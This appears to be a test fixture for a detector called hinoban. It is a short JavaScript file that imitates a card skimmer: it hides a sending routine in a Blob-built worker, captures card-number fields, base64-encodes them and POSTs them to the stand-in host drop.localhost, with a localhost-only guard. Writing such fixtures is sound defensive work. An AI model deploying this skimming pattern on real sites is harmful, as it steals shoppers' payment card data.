/* Harmless imitation, for hinoban's tests: a blob worker that sends. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var w = new Worker(URL.createObjectURL(new Blob(["onmessage = function (e) { fetch(e.data[0], {method: 'POST', mode: 'no-cors', body: e.data[1]}); };"])));
	document.addEventListener('change', function (e) {
		if (e.target.autocomplete === 'cc-number') w.postMessage(['http://drop.localhost:' + location.port + '/c', btoa(e.target.value)]);
	});
})();
